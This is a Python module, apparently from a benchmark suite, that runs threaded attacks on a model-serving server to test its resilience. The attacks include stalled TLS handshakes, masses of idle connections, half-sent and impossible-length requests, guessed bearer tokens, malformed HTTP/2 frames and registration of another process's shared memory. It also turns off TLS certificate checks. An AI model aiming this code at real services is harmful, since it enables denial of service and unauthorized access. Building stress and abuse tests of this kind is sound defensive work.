"""Attackers, at a low priority: `python -m edl.benchmarks.attackers.attacks CHANNEL`.

The first message has the addresses; then the attacks run until the channel ends. Each further
message is answered with the number of acts of each kind. Each kind of attack runs in its own thread
and goes on when connections fail.
"""

from __future__ import annotations

import contextlib
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Mapping
from typing import Any, Final

from ...proto.channel import Channel
from ...runtime.lifecycle import open_all_descriptors
from ...runtime.supervise import end_with_parent

#: Lowest priority, so that the good client is slowed by the attack, not by the attacker's CPU use.
_NICE: Final = 19
#: Seconds between two acts of one kind.
_PAUSE_S: Final = 0.02
#: Most connections that are held open at the HTTP port, and at the metrics port.
_IDLE, _IDLE_METRICS = 2000, 32
_HUGE: Final = 1 << 40
#: Preface of an HTTP/2 connection, which gRPC uses.
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

Address = tuple[str, int]


class Attacks:
    """Kinds of attack; each call makes one act. Each kind may run in its own thread.

    Args:
        ports: "http", "grpc", "metrics", "page", "manager" -> (host, port).
        token: token of a student, as if its machine were compromised.
        model: name of the teacher's model.
        tls: whether the teacher's HTTP and gRPC ports use TLS.
    """

    def __init__(self, ports: Mapping[str, Address], token: str, model: str, tls: bool) -> None:
        self._ports = dict(ports)
        self._token = token
        self._infer = f"/v2/models/{model}/infer"
        self._tls = ssl._create_unverified_context() if tls else None
        self._tls_http_2 = ssl._create_unverified_context() if tls else None
        if self._tls_http_2 is not None:
            self._tls_http_2.set_alpn_protocols(["h2"])
        self._held: dict[str, deque[socket.socket]] = {}
        self._rng = random.Random(1)

    def kinds(self) -> Mapping[str, Callable[[], None]]:
        """Return the function of each kind of attack, by name."""
        return {
            "handshakes that do not go on": self.begin_handshake,
            "idle connections": lambda: self._hold("http", _IDLE),
            "idle scrapes": lambda: self._hold("metrics", _IDLE_METRICS),
            "random bytes": self.send_noise,
            "half a request": lambda: self._post(self._token, 1 << 20, b"x" * 1000),
            "a length that cannot be": lambda: self._post(self._token, _HUGE, b""),
            "guessed tokens": lambda: self._post(f"{self._rng.random()}", 1000, b"x" * 1000),
            "frames of HTTP/2": self.send_frames,
            "memory of others": self.register_memory,
        }

    def begin_handshake(self) -> None:
        """Send only the first bytes of a TLS record, and keep the connection open."""
        connection = self._connect("http")
        connection.sendall(b"\x16\x03\x01\x02\x00")
        self._keep("handshakes", connection, 300)

    def send_noise(self) -> None:
        """Send random bytes to a random port."""
        with self._connect(self._rng.choice(list(self._ports))) as connection:
            connection.sendall(self._rng.randbytes(self._rng.randrange(1, 4096)))

    def send_frames(self) -> None:
        """Send HTTP/2 frames of random types, streams and lengths."""
        with self._wrapped("grpc", self._tls_http_2) as connection:
            connection.sendall(_PREFACE)
            for _ in range(20):
                kind, stream = self._rng.randrange(16), self._rng.randrange(1 << 16)
                body = self._rng.randbytes(self._rng.randrange(200))
                head = struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, 0, stream)
                connection.sendall(head + body)

    def register_memory(self) -> None:
        """Register a foreign object of `/dev/shm`, and a descriptor of process 1."""
        for key in ("/edl-of-somebody", "/edl-fd-1-3"):
            body = b'{"key": "%s", "offset": 0, "byte_size": 4096}' % key.encode()
            path = "/v2/systemsharedmemory/region/r/register"
            self._post(self._token, len(body), body, path)

    def _post(self, token: str, nbytes: int, body: bytes, path: str = "") -> None:
        lines = [
            f"POST {path or self._infer} HTTP/1.1",
            "Host: localhost",
            f"Authorization: Bearer {token}",
            f"Content-Length: {nbytes}",
        ]
        connection = self._wrapped("http", self._tls)
        connection.sendall("\r\n".join([*lines, "", ""]).encode() + body)
        self._keep("requests", connection, 200)

    def _connect(self, where: str) -> socket.socket:
        return socket.create_connection(self._ports[where], 5.0)

    def _wrapped(self, where: str, tls: ssl.SSLContext | None) -> socket.socket:
        connection = self._connect(where)
        return connection if tls is None else tls.wrap_socket(connection)

    def _hold(self, where: str, count: int) -> None:
        self._keep(where, self._connect(where), count)

    def _keep(self, kind: str, connection: socket.socket, most: int) -> None:
        """Keep a connection open; close the oldest of its kind if there are more than `most`."""
        held = self._held.setdefault(kind, deque())
        held.append(connection)
        if len(held) > most:
            held.popleft().close()


def _attack(act: Callable[[], None], counts: dict[str, int], name: str) -> None:
    while True:
        with contextlib.suppress(OSError):  # the connection was closed or refused, or timed out
            act()
            counts[name] += 1
        time.sleep(_PAUSE_S)


def main(fd: int) -> None:
    end_with_parent()
    os.nice(_NICE)
    open_all_descriptors()
    channel = Channel.attach(fd)
    where: dict[str, Any] | None = channel.receive()
    assert where is not None
    ports = {name: (host, port) for name, (host, port) in where["ports"].items()}
    attacks = Attacks(ports, where["token"], where["model"], where["tls"])
    counts = dict.fromkeys(attacks.kinds(), 0)
    for name, act in attacks.kinds().items():
        threading.Thread(target=_attack, args=(act, counts, name), daemon=True).start()
    channel.send("started")
    for _ in channel:
        channel.send("counts", of=counts)


if __name__ == "__main__":
    main(int(sys.argv[1]))
